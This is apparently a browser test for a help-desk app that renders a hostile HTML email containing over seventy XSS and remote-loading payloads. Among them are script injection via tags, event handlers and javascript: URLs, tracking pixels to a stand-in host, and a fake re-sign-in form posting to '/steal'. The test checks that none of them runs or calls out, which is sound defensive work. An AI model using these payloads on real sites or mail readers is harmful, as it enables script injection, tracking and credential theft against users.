"""Hostile mail HTML in a real browser: nothing runs, nothing is asked of another machine."""

import pytest
from playwright.sync_api import Browser, expect
from pytest_django.live_server_helper import LiveServer

from headwater.cases.models import Case
from tests.browser.visit import faults, signed_in
from tests.channels.conftest import OWNER, SUPPORT
from tests.channels.test_secrets import arrive
from tests.factories import make_agent

pytestmark = [pytest.mark.browser, pytest.mark.slow, pytest.mark.django_db(transaction=True)]

AWAY = "https://away.example"
RUN = "parent.ran=1;top.ran=1;ran=1;alert(1)"
HOSTILE = [
    f"<script>{RUN}</script>",
    f"<SCRIPT SRC={AWAY}/x.js></SCRIPT>",
    f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    f"<img src=x onerror='{RUN}'>",
    f'<img src=x onerror="{RUN}" ',
    f"<img/src='x'/onerror={RUN}>",
    f"<img src='{AWAY}/pixel.gif'>",
    f"<img srcset='{AWAY}/a.png 1x, {AWAY}/b.png 2x'>",
    "<img src='//away.example/p.gif'>",
    f"<img lowsrc='{AWAY}/p.gif' dynsrc='{AWAY}/q.gif'>",
    f"<picture><source srcset='{AWAY}/s.png'><img src='{AWAY}/t.png'></picture>",
    f"<body onload='{RUN}' background='{AWAY}/bg.png'>",
    f"<svg onload='{RUN}'><circle/></svg>",
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><image href='{AWAY}/i.svg'/></svg>",
    f"<svg><use href='{AWAY}/u.svg#x'/></svg>",
    f"<svg><animate onbegin='{RUN}' attributeName=x dur=1s>",
    f"<svg><a xlink:href='javascript:{RUN}'><text>x</text></a></svg>",
    "<math><mtext><table><mglyph><style>"
    f"<img src=x onerror='{RUN}'></style></mglyph></table></mtext></math>",
    f"<math href='javascript:{RUN}'>x</math>",
    f"<noscript><p title='</noscript><img src=x onerror={RUN}>'></noscript>",
    f"<form><math><mtext></form><form><mglyph><style></math><img src onerror='{RUN}'>",
    f"<template><img src=x onerror='{RUN}'></template>",
    f"<iframe src='javascript:{RUN}'></iframe>",
    f"<iframe srcdoc='<script>{RUN}</script>'></iframe>",
    f"<iframe src='{AWAY}/frame'></iframe>",
    f"<frameset><frame src='{AWAY}/f'></frameset>",
    f"<object data='{AWAY}/o.swf'></object>",
    f"<object data='javascript:{RUN}'></object>",
    f"<embed src='{AWAY}/e.swf'>",
    f"<applet code=x archive='{AWAY}/a.jar'></applet>",
    f"<link rel=stylesheet href='{AWAY}/s.css'>",
    f"<link rel=prefetch href='{AWAY}/p'><link rel=dns-prefetch href='{AWAY}'>",
    f"<link rel=preload as=image href='{AWAY}/l.png'>",
    f"<meta http-equiv=refresh content='0;url={AWAY}/m'>",
    "<meta http-equiv='Content-Security-Policy' content='script-src *'>",
    f"<base href='{AWAY}/'>",
    f"<style>@import url({AWAY}/i.css);</style>",
    f"<style>body{{background:url({AWAY}/b.png)}}</style>",
    f"<style>@font-face{{font-family:x;src:url({AWAY}/f.woff)}}*{{font-family:x}}</style>",
    f"<p style='background:url({AWAY}/c.png)'>x</p>",
    f"<p style='background-image:image-set(\"{AWAY}/d.png\" 1x)'>x</p>",
    "<p style='position:fixed;inset:0;z-index:9999'>over everything</p>",
    f"<p style='width:expression({RUN})'>x</p>",
    f"<p style='behavior:url({AWAY}/x.htc)'>x</p>",
    f"<div style='list-style:url({AWAY}/l.png)'>x</div>",
    f"<audio src='{AWAY}/a.mp3' autoplay onerror='{RUN}'></audio>",
    f"<video poster='{AWAY}/v.png' src='{AWAY}/v.mp4' autoplay></video>",
    f"<video><track src='{AWAY}/t.vtt' default></video>",
    f"<input autofocus onfocus='{RUN}'>",
    f"<select autofocus onfocus='{RUN}'></select>",
    f"<textarea autofocus onfocus='{RUN}'></textarea>",
    f"<details open ontoggle='{RUN}'><summary>x</summary></details>",
    f"<marquee onstart='{RUN}'>x</marquee>",
    f"<form action='{AWAY}/steal'><input name=p><button>Sign in again</button></form>",
    f"<isindex action='javascript:{RUN}' type=image>",
    f"<button formaction='javascript:{RUN}'>x</button>",
    f"<table background='{AWAY}/t.png'><td background='{AWAY}/u.png'>x</td></table>",
    f"<a href='javascript:{RUN}'>x</a>",
    f"<a href='&#106;avascript:{RUN}'>x</a>",
    f"<a href='java\tscript:{RUN}'>x</a>",
    f"<a href=' vbscript:{RUN}'>x</a>",
    f"<a href='data:text/html,<script>{RUN}</script>'>x</a>",
    f"<a href='#' onclick='{RUN}' onmouseover='{RUN}'>x</a>",
    f"<a ping='{AWAY}/ping' href='{AWAY}/'>x</a>",
    f"<img src='data:image/svg+xml,<svg onload=\"{RUN}\">'>",
    f"<img usemap='#m'><map name=m><area href='javascript:{RUN}' shape=default></map>",
    f"<xml id=x><a onclick='{RUN}'></a></xml><div datasrc='#x'></div>",
    f"<!--[if gte IE 4]><script>{RUN}</script><![endif]-->",
    f"<![CDATA[<script>{RUN}</script>]]>",
    f"<p title='\"><script>{RUN}</script>'>x</p>",
    f"<div id=location></div><div name=document onpointerenter='{RUN}'>x</div>",
    "<img data-src='https://away.example/own.gif'>",
    f"<bdo dir=rtl><a href='{AWAY}/r'>elpmaxe.knab</a></bdo>",
]


def hostile_case() -> Case:
    body = "".join(f"<div>{n}: {one}</div>\n" for n, one in enumerate(HOSTILE))
    raw = (
        f"From: Eve <{OWNER}>\r\nTo: {SUPPORT}\r\nSubject: Look\r\nMessage-ID: <h@shop.example>\r\n"
        "MIME-Version: 1.0\r\nContent-Type: text/html; charset=utf-8\r\n\r\n"
        f"<html><body><p>first words</p>{body}<p>last words</p></body></html>"
    ).encode()
    message = arrive(raw).message
    assert message is not None
    return message.case


def test_nothing_runs_and_nothing_leaves(browser: Browser, live_server: LiveServer) -> None:
    assert len(HOSTILE) >= 60
    case, agent = hostile_case(), make_agent("Mia Chen")
    address = f"{live_server.url}/cases/{case.pk}/"
    asked: list[str] = []
    with signed_in(browser, live_server.url, agent) as page:
        page.on("request", lambda request: asked.append(request.url))
        dialogs: list[str] = []
        page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
        page.goto(address)
        page.get_by_text("As it was laid out").click()
        frame = page.frame_locator("details.as-sent iframe")
        expect(frame.get_by_text("first words")).to_be_visible()
        expect(frame.locator("script, style, form, input, iframe, object, svg")).to_have_count(0)
        # The document of its own, where the frame's sandbox does not stand before it.
        page.goto(f"{address}messages/{case.messages.get().pk}/html/")
        expect(page.get_by_text("first words")).to_be_visible()
        for link in page.locator("a[href]").all():
            link.hover()
        assert page.evaluate("window.ran") is None
        assert dialogs == []
        assert [url for url in asked if not url.startswith((live_server.url, "data:"))] == []
        assert not [url for url in asked if "away" in url]


@pytest.mark.parametrize("scheme", ["light", "dark"])
def test_the_frame_is_readable(browser: Browser, live_server: LiveServer, scheme: str) -> None:
    case = hostile_case()
    with signed_in(browser, live_server.url, make_agent("Mia"), color_scheme=scheme) as page:
        page.goto(f"{live_server.url}/cases/{case.pk}/")
        page.get_by_text("As it was laid out").click()
        expect(
            page.frame_locator("details.as-sent iframe").get_by_text("first words")
        ).to_be_visible()
        assert faults(page) == []
